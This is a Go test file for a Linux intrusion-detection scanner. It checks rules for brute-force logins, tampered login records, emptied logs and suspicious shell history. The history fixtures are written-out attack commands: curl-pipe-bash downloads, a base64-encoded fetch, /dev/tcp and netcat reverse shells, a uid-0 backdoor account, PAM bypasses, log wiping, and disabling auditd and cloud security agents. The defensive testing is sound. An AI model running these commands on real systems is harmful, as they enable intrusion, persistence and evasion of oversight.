package check

import (
	"encoding/binary"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/yingji/yingji/internal/finding"
)

// utmpRec encodes one glibc struct utmp record (384-byte little-endian
// layout of x86_64).
func utmpRec(typ int16, pid int32, line, user, host string, t time.Time) string {
	b := make([]byte, 384)
	binary.LittleEndian.PutUint16(b[0:], uint16(typ))
	binary.LittleEndian.PutUint32(b[4:], uint32(pid))
	copy(b[8:40], line)
	if len(line) > 3 {
		copy(b[40:44], line[len(line)-min(4, len(line)):])
	}
	copy(b[44:76], user)
	copy(b[76:332], host)
	binary.LittleEndian.PutUint32(b[340:], uint32(t.Unix()))
	binary.LittleEndian.PutUint32(b[344:], uint32(t.Nanosecond()/1000))
	if a, err := netip.ParseAddr(host); err == nil {
		if a.Is4() {
			v := a.As4()
			copy(b[348:], v[:])
		} else {
			v := a.As16()
			copy(b[348:], v[:])
		}
	}
	return string(b)
}

const (
	utBoot = 2
	utFail = 6 // LOGIN_PROCESS: a failure in btmp
	utUser = 7
	utDead = 8
)

// lastlogRecs encodes a lastlog file (292-byte records indexed by UID).
func lastlogRecs(entries map[int][3]string, times map[int]time.Time) string {
	maxUID := 0
	for u := range entries {
		maxUID = max(maxUID, u)
	}
	b := make([]byte, (maxUID+1)*292)
	for u, e := range entries {
		r := b[u*292:]
		binary.LittleEndian.PutUint32(r, uint32(times[u].Unix()))
		copy(r[4:36], e[0])
		copy(r[36:292], e[1])
	}
	return string(b)
}

// failures makes n btmp failures from host over users, one every 2 s.
func failures(host string, n int, users []string, start time.Time) string {
	var s strings.Builder
	for i := 0; i < n; i++ {
		s.WriteString(utmpRec(utFail, int32(20000+i), "ssh:notty", users[i%len(users)], host, start.Add(time.Duration(i)*2*time.Second)))
	}
	return s.String()
}

func session(user, host, tty string, t time.Time) string {
	return utmpRec(utUser, 3000, tty, user, host, t) + utmpRec(utDead, 3000, tty, "", "", t.Add(30*time.Minute))
}

func TestLoginRecordScenarios(t *testing.T) {
	base := time.Now().Add(-10 * 24 * time.Hour).Truncate(time.Second)
	boot := utmpRec(utBoot, 0, "~", "reboot", "6.1.0-18-amd64", base.Add(-time.Hour))
	accountsRun(t, []scenario{
		{name: "brute force from one address", plant: func(r *testRoot) {
			r.write("var/log/btmp", failures("198.51.100.7", 30, []string{"root", "admin", "test"}, base))
		}, want: []want{{"logins.btmp_brute_force", "/var/log/btmp"}}},
		{name: "brute force hard variant: IPv6 password spraying, one try per account, in btmp.1", plant: func(r *testRoot) {
			r.write("var/log/btmp", "")
			r.write("var/log/btmp.1", failures("2001:db8::66", 5, []string{"oracle", "postgres", "git", "ubuntu", "pi"}, base))
		}, want: []want{{"logins.btmp_brute_force", "/var/log/btmp.1"}}},
		{name: "benign: a user mistyped twice", plant: func(r *testRoot) {
			r.write("var/log/btmp", failures("192.0.2.10", 2, []string{"debian"}, base))
			r.write("var/log/wtmp", boot+session("debian", "192.0.2.10", "pts/0", base.Add(time.Minute)))
		}},
		{name: "login after brute force", plant: func(r *testRoot) {
			r.write("var/log/btmp", failures("198.51.100.7", 40, []string{"root", "debian"}, base))
			r.write("var/log/wtmp", boot+session("debian", "198.51.100.7", "pts/1", base.Add(2*time.Minute)))
		}, want: []want{{"logins.success_after_failures", "/var/log/wtmp"}}},
		{name: "root from the network after failures", plant: func(r *testRoot) {
			r.write("var/log/btmp", failures("203.0.113.9", 1, []string{"root"}, base))
			r.write("var/log/wtmp", boot+session("root", "203.0.113.9", "pts/0", base.Add(time.Minute)))
		}, want: []want{{"logins.root_remote_login", "/var/log/wtmp"}}},
		{name: "benign: root from the admin network, and from tmux", plant: func(r *testRoot) {
			r.write("var/log/wtmp", boot+session("root", "192.0.2.10", "pts/0", base)+session("root", "tmux(1234).%0", "pts/3", base.Add(time.Hour)))
		}},
		{name: "web account logged in", plant: func(r *testRoot) {
			r.write("var/log/wtmp", boot+session("www-data", "198.51.100.7", "pts/2", base))
		}, want: []want{{"logins.system_account_login", "/var/log/wtmp"}}},
		{name: "system login variants: lastlog for daemon, wtmp login of a removed account", plant: func(r *testRoot) {
			r.write("var/log/lastlog", lastlogRecs(map[int][3]string{1: {"pts/4", "198.51.100.7"}}, map[int]time.Time{1: base}))
			r.write("var/log/wtmp", boot+session("oldadmin", "198.51.100.8", "pts/0", base))
		}, want: []want{{"logins.system_account_login", "/var/log/lastlog"}, {"logins.system_account_login", "/var/log/wtmp"}}},
		{name: "benign: ordinary user sessions", plant: func(r *testRoot) {
			r.write("var/log/wtmp", boot+session("debian", "192.0.2.10", "pts/0", base)+session("debian", "192.0.2.10", "pts/0", base.Add(24*time.Hour)))
			r.write("var/log/lastlog", lastlogRecs(map[int][3]string{1000: {"pts/0", "192.0.2.10"}}, map[int]time.Time{1000: base.Add(24 * time.Hour)}))
		}},
		{name: "wtmp with a zeroed record", plant: func(r *testRoot) {
			r.write("var/log/wtmp", boot+session("debian", "192.0.2.10", "pts/0", base)+strings.Repeat("\x00", 384)+session("debian", "192.0.2.10", "pts/0", base.Add(time.Hour)))
		}, want: []want{{"logins.record_tampering", "/var/log/wtmp"}}},
		{name: "tampering variants: truncated btmp, corrupted type, time running backwards", plant: func(r *testRoot) {
			r.write("var/log/btmp", failures("192.0.2.10", 2, []string{"debian"}, base)+strings.Repeat("A", 100))
			bad := []byte(utmpRec(utUser, 1, "pts/0", "x", "y", base))
			bad[0] = 0x77
			r.write("var/log/wtmp", boot+session("debian", "192.0.2.10", "pts/0", base.Add(72*time.Hour))+session("debian", "192.0.2.10", "pts/1", base)+string(bad))
		}, want: []want{{"logins.record_tampering", "/var/log/btmp"}, {"logins.record_tampering", "/var/log/wtmp"}}},
		{name: "tampering variant: lastlog cut to a partial record", plant: func(r *testRoot) {
			r.write("var/log/lastlog", lastlogRecs(map[int][3]string{1000: {"pts/0", "192.0.2.10"}}, map[int]time.Time{1000: base})[:1000*292+100])
		}, want: []want{{"logins.record_tampering", "/var/log/lastlog"}}},
		{name: "benign: clock set back at boot", plant: func(r *testRoot) {
			r.write("var/log/wtmp", session("debian", "192.0.2.10", "pts/0", base.Add(5*time.Hour))+boot+session("debian", "192.0.2.10", "pts/0", base))
		}},
		{name: "lastlog login missing from wtmp", plant: func(r *testRoot) {
			r.write("var/log/wtmp", boot+session("debian", "192.0.2.10", "pts/0", base)+session("debian", "192.0.2.10", "pts/0", base.Add(48*time.Hour)))
			r.write("var/log/lastlog", lastlogRecs(map[int][3]string{1000: {"pts/1", "198.51.100.7"}}, map[int]time.Time{1000: base.Add(24 * time.Hour)}))
		}, want: []want{{"logins.lastlog_wtmp_mismatch", "/var/log/lastlog"}}},
		{name: "wtmp emptied while auth.log shows logins", plant: func(r *testRoot) {
			r.write("var/log/wtmp", "")
		}, want: []want{{"logins.wtmp_missing", "/var/log/wtmp"}}},
		{name: "missing records variants: btmp emptied under failures, wtmp gone while lastlog is newer", plant: func(r *testRoot) {
			r.write("var/log/btmp", "")
			var s strings.Builder
			for i := 0; i < 8; i++ {
				s.WriteString("Nov 28 10:00:0" + string(rune('0'+i)) + " web01 sshd[2001]: Failed password for root from 198.51.100.7 port 4242 ssh2\n")
			}
			r.appendTo("var/log/auth.log", s.String())
			r.write("var/log/lastlog", lastlogRecs(map[int][3]string{1000: {"pts/0", "192.0.2.10"}}, map[int]time.Time{1000: base}))
		}, want: []want{{"logins.wtmp_missing", "/var/log/btmp"}, {"logins.wtmp_missing", "/var/log/wtmp"}}},
		{name: "benign: wtmpdb instead of wtmp (Debian 13)", plant: func(r *testRoot) {
			r.write("var/lib/wtmpdb/wtmp.db", "SQLite format 3\x00")
			r.write("var/log/btmp", "")
		}},
	})
}

// TestLoginCorpusBruteForce checks the brute-force logic on the synthetic
// btmp/wtmp of the shared corpus (4 accounts tried from 203.0.113.45, then a
// login from there).
func TestLoginCorpusBruteForce(t *testing.T) {
	dir := "../../../shared/corpus/logs/utmp"
	btmp, err1 := os.ReadFile(filepath.Join(dir, "synthetic_btmp"))
	wtmp, err2 := os.ReadFile(filepath.Join(dir, "synthetic_wtmp"))
	if err1 != nil || err2 != nil {
		if os.Getenv("CI") == "true" {
			t.Fatalf("corpus missing: %v %v", err1, err2)
		}
		t.Skip("shared corpus not available")
	}
	r := newRoot(t)
	r.write("var/log/btmp", string(btmp))
	r.write("var/log/wtmp", string(wtmp))
	fs := r.scan("logins.btmp_brute_force,logins.success_after_failures")
	for _, w := range []want{{"logins.btmp_brute_force", "/var/log/btmp"}, {"logins.success_after_failures", "/var/log/wtmp"}} {
		if !hasFinding(fs, w) {
			t.Errorf("want %v; got:\n%s", w, summary(fs))
		}
	}
	for _, f := range fs {
		if f.Rule == "logins.btmp_brute_force" {
			if !strings.Contains(f.Description, "203.0.113.45 failed 4 times") || !strings.Contains(f.Description, "4 account(s)") {
				t.Errorf("brute force detail: %s", f.Description)
			}
			if strings.Contains(f.Description, "2001:db8::66") {
				t.Errorf("a single failure reported as brute force: %s", f.Description)
			}
		}
		if f.Rule == "logins.success_after_failures" && !strings.Contains(f.Description, `"deploy" logged in from 203.0.113.45`) {
			t.Errorf("success detail: %s", f.Description)
		}
	}
}

func TestLoginLogScenarios(t *testing.T) {
	accountsRun(t, []scenario{
		{name: "auth.log emptied long after rotation", plant: func(r *testRoot) {
			r.write("var/log/auth.log.1", "Nov 21 09:00:01 web01 CRON[1]: pam_unix(cron:session): session opened\n")
			r.setTimes("var/log/auth.log.1", r.now.Add(-3*24*time.Hour))
			r.write("var/log/auth.log", "")
			r.setTimes("var/log/auth.log", r.now.Add(-2*time.Hour))
		}, want: []want{{"logins.log_emptied", "/var/log/auth.log"}}},
		{name: "log emptied variant: syslog deleted, compressed copies remain", plant: func(r *testRoot) {
			os.Remove(r.path("var/log/syslog"))
			r.write("var/log/syslog.1", "x\n")
			r.write("var/log/syslog.2.gz", "\x1f\x8b")
		}, want: []want{{"logins.log_emptied", "/var/log/syslog"}}},
		{name: "benign: auth.log just rotated", plant: func(r *testRoot) {
			r.write("var/log/auth.log.1", "x\n")
			r.setTimes("var/log/auth.log.1", r.now.Add(-10*time.Minute))
			r.write("var/log/auth.log", "")
			r.setTimes("var/log/auth.log", r.now.Add(-9*time.Minute))
		}},
		{name: "gap cut out of syslog", plant: func(r *testRoot) {
			r.write("var/log/syslog", syslogLines(r.now.Add(-10*24*time.Hour), 200, 3*24*time.Hour, ""))
		}, want: []want{{"logins.log_time_gap", "/var/log/syslog"}}},
		{name: "log gap variant: RFC 3339 time stamps in auth.log", plant: func(r *testRoot) {
			r.write("var/log/auth.log", syslogLines(r.now.Add(-10*24*time.Hour), 200, 2*24*time.Hour, "rfc3339"))
		}, want: []want{{"logins.log_time_gap", "/var/log/auth.log"}}},
		{name: "benign: gap with a reboot", plant: func(r *testRoot) {
			r.write("var/log/syslog", syslogLines(r.now.Add(-10*24*time.Hour), 200, 3*24*time.Hour, "boot"))
		}},
	})
}

// syslogLines writes n lines five minutes apart with a gap in the middle;
// style "rfc3339" uses RFC 3339 stamps, "boot" puts a boot after the gap.
func syslogLines(start time.Time, n int, gap time.Duration, style string) string {
	var b strings.Builder
	t := start.UTC()
	for i := 0; i < n; i++ {
		if i == n/2 {
			t = t.Add(gap)
			if style == "boot" {
				b.WriteString(t.Format(time.Stamp) + " web01 kernel: Linux version 6.1.0-18-amd64\n")
			}
		}
		stamp := t.Format(time.Stamp)
		if style == "rfc3339" {
			stamp = t.Format("2006-01-02T15:04:05.000000+00:00")
		}
		b.WriteString(stamp + " web01 CRON[1201]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)\n")
		t = t.Add(5 * time.Minute)
	}
	return b.String()
}

func TestLoginHistoryScenarios(t *testing.T) {
	accountsRun(t, []scenario{
		{name: "root history linked to /dev/null", plant: func(r *testRoot) {
			r.link("/dev/null", "root/.bash_history")
		}, want: []want{{"logins.history_null_link", "/root/.bash_history"}}},
		{name: "null link variant: relative link for zsh in a user's home", plant: func(r *testRoot) {
			r.link("../../dev/null", "home/debian/.zsh_history")
		}, want: []want{{"logins.history_null_link", "/home/debian/.zsh_history"}}},
		{name: "history emptied recently", plant: func(r *testRoot) {
			age(r)
			r.write("root/.bash_history", "")
			r.setTimes("root/.bash_history", r.now.Add(-26*time.Hour))
		}, want: []want{{"logins.history_emptied", "/root/.bash_history"}}},
		{name: "benign: empty history untouched since installation", plant: func(r *testRoot) {
			age(r)
			r.write("home/debian/.zsh_history", "")
		}},
		{name: "HISTFILE=/dev/null in root's bashrc", plant: func(r *testRoot) {
			r.appendTo("root/.bashrc", "export HISTFILE=/dev/null\n")
		}, want: []want{{"logins.history_disabled_rc", "/root/.bashrc"}}},
		{name: "history off variants: global profile.d with unset and set +o, HISTSIZE=0 in .profile", plant: func(r *testRoot) {
			r.write("etc/profile.d/zz-locale.sh", "LANG=C.UTF-8; unset HISTFILE;set +o history\n")
			r.appendTo("home/debian/.profile", "HISTSIZE='0'\n")
		}, want: []want{{"logins.history_disabled_rc", "/etc/profile.d/zz-locale.sh"}, {"logins.history_disabled_rc", "/home/debian/.profile"}}},
		{name: "benign: custom history settings", plant: func(r *testRoot) {
			r.appendTo("root/.bashrc", "HISTSIZE=100000\nHISTFILESIZE=200000\nHISTFILE=~/.bash_history_root\nHISTCONTROL=ignoreboth:erasedups\n# unset HISTFILE\n")
		}},
		{name: "history downloads and runs", plant: func(r *testRoot) {
			r.appendTo("root/.bash_history", "curl -fsSL http://198.51.100.7/x.sh | bash\n")
		}, want: []want{{"logins.history_download_exec", "/root/.bash_history"}}},
		{name: "download variants: wget then chmod and run from /tmp with bash stamps; base64 in zsh extended history", plant: func(r *testRoot) {
			r.appendTo("home/debian/.bash_history", "#1732780800\nwget -q http://198.51.100.7/k -O /tmp/.k; chmod +x /tmp/.k; /tmp/.k -o pool.example:3333\n")
			r.write("root/.zsh_history", ": 1732780800:0;echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaAo= | base64 -d | sh\n")
		}, want: []want{{"logins.history_download_exec", "/home/debian/.bash_history"}, {"logins.history_download_exec", "/root/.zsh_history"}}},
		{name: "benign: admin downloads an installer and reads files in /tmp", plant: func(r *testRoot) {
			r.appendTo("root/.bash_history", "curl -fsSL https://download.docker.com/linux/debian/gpg -o /etc/apt/keyrings/docker.asc\ncd /tmp && ls -la\nvim ~/.config/nvim/init.lua\nnc -zv 192.0.2.10 22\ntail -f /var/log/syslog\nless /var/log/auth.log\nsystemctl status firewalld\niptables -L -n\nufw status\ncat ~/.ssh/authorized_keys\ngrep sudo /etc/group\n")
		}},
		{name: "reverse shell in history", plant: func(r *testRoot) {
			r.appendTo("root/.bash_history", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n")
		}, want: []want{{"logins.history_reverse_shell", "/root/.bash_history"}}},
		{name: "reverse shell variants: netcat -e and python socket in a removed account's history", plant: func(r *testRoot) {
			r.write("home/olduser/.bash_history", "nc -e /bin/sh 198.51.100.7 4444\npython3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.7\",53))'\n")
		}, want: []want{{"logins.history_reverse_shell", "/home/olduser/.bash_history"}}},
		{name: "history adds a key and a uid 0 user", plant: func(r *testRoot) {
			r.appendTo("root/.bash_history", "echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDx >> /root/.ssh/authorized_keys\nuseradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm\necho 'sysadm:P@ssw0rd' | chpasswd\n")
		}, want: []want{{"logins.history_adds_access", "/root/.bash_history"}}},
		{name: "adds access variant: line appended to /etc/passwd via tee, user added to sudo", plant: func(r *testRoot) {
			r.appendTo("home/debian/.bash_history", "echo 'x:$1$abc$def:0:0::/root:/bin/bash' | sudo tee -a /etc/passwd\nsudo usermod -aG sudo,docker guest\n")
		}, want: []want{{"logins.history_adds_access", "/home/debian/.bash_history"}}},
		{name: "history clears logs", plant: func(r *testRoot) {
			r.appendTo("root/.bash_history", "history -c\n")
		}, want: []want{{"logins.history_log_wipe", "/root/.bash_history"}}},
		{name: "log wipe variants: redirection, shred, sed on auth.log, rm wtmp", plant: func(r *testRoot) {
			r.appendTo("home/debian/.bash_history", "sudo sh -c '> /var/log/auth.log'\nshred -u ~/.bash_history\nsed -i '/198.51.100.7/d' /var/log/auth.log\nrm -f /var/log/wtmp\n")
		}, want: []want{{"logins.history_log_wipe", "/home/debian/.bash_history"}}},
		{name: "history disables security tools and the cloud agent", plant: func(r *testRoot) {
			r.appendTo("root/.bash_history", "setenforce 0\nsystemctl stop aegis.service; pkill -9 AliYunDun\nchattr -i /etc/passwd\n")
		}, want: []want{{"logins.history_security_disabled", "/root/.bash_history"}}},
		{name: "security variants: auditd stopped, firewall flushed, Tencent YunJing removed", plant: func(r *testRoot) {
			r.appendTo("home/debian/.bash_history", "sudo systemctl disable --now auditd\nsudo iptables -F\n/usr/local/qcloud/YunJing/uninst.sh\n")
		}, want: []want{{"logins.history_security_disabled", "/home/debian/.bash_history"}}},
	})
}

func TestLoginParseHistory(t *testing.T) {
	ls := loginsParseHistory([]byte("#1732780800\nls\n: 1732780900:0;id\n- cmd: whoami\n  when: 1\n\n"))
	if len(ls) != 4 || ls[0].Cmd != "ls" || ls[0].Time.Unix() != 1732780800 || ls[1].Cmd != "id" || ls[1].Time.Unix() != 1732780900 || ls[2].Cmd != "whoami" {
		t.Errorf("%+v", ls)
	}
}

func TestLoginJudgeLine(t *testing.T) {
	for _, tc := range []struct {
		kind int
		cmd  string
		want finding.Severity
	}{
		{loginsKindWipe, "truncate -s 0 /var/log/nginx/access.log", finding.Medium},
		{loginsKindWipe, "> /var/log/auth.log", finding.High},
		{loginsKindWipe, "rm -rf /var/log/*", finding.High},
		{loginsKindWipe, "ls -la /var/log", finding.Info},
		{loginsKindEvasion, "ufw disable", finding.Medium},
		{loginsKindEvasion, "killall -9 aliyun-service", finding.High},
		{loginsKindEvasion, "systemctl status auditd", finding.Info},
		{loginsKindAccess, "useradd -m deploy", finding.Medium},
		{loginsKindAccess, "cat /etc/passwd", finding.Info},
		{loginsKindDownload, "cd /tmp/build && make", finding.Info},
		{loginsKindReverse, "nc -zv 192.0.2.1 443", finding.Info},
	} {
		if got, _, _ := loginsJudgeLine(tc.kind, tc.cmd); got != tc.want {
			t.Errorf("%q: severity %s, want %s", tc.cmd, got, tc.want)
		}
	}
}

// TestAccountLoginSeverities checks that content moves severities as
// documented.
func TestAccountLoginSeverities(t *testing.T) {
	for _, tc := range []struct {
		name  string
		plant func(r *testRoot)
		rule  string
		want  finding.Severity
	}{
		{"pam_permit sufficient is critical", func(r *testRoot) {
			r.write("etc/pam.d/sshd", "auth sufficient pam_permit.so\n")
		}, "accounts.pam_permissive_auth", finding.Critical},
		{"modified pam_unix is critical", func(r *testRoot) {
			r.write("usr/lib/x86_64-linux-gnu/security/pam_unix.so", fakeELF("patched"))
		}, "accounts.pam_module_unowned", finding.Critical},
		{"restricted forced command is low", func(r *testRoot) {
			r.write("root/.ssh/authorized_keys", `command="/usr/bin/rrsync /srv" `+testKey+"\n")
		}, "accounts.authorized_keys_forced_command", finding.Low},
		{"base daemon with a shell is high", func(r *testRoot) {
			replaceIn(r, "etc/passwd", "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin", "daemon:x:1:1:daemon:/usr/sbin:/bin/bash")
		}, "accounts.system_login_shell", finding.High},
		{"NOPASSWD for a regular non-admin user is medium", func(r *testRoot) {
			r.appendTo("etc/passwd", "guest:x:1001:1001::/home/guest:/bin/bash\n")
			r.writeMode("etc/sudoers.d/guest", "guest ALL=(ALL) NOPASSWD: ALL\n", 0o440)
		}, "accounts.sudoers_nopasswd", finding.Medium},
		{"history in a global profile is high", func(r *testRoot) {
			r.appendTo("etc/bash.bashrc", "export HISTFILE=/dev/null\n")
		}, "logins.history_disabled_rc", finding.High},
		{"root login from a clean address is low", func(r *testRoot) {
			r.write("var/log/wtmp", session("root", "192.0.2.10", "pts/0", time.Now().Add(-time.Hour)))
		}, "logins.root_remote_login", finding.Low},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newRoot(t)
			tc.plant(r)
			fs := r.scan(tc.rule)
			if len(fs) == 0 {
				t.Fatalf("no finding")
			}
			if fs[0].Severity != tc.want {
				t.Errorf("severity %s, want %s: %s", fs[0].Severity, tc.want, fs[0].Description)
			}
		})
	}
}
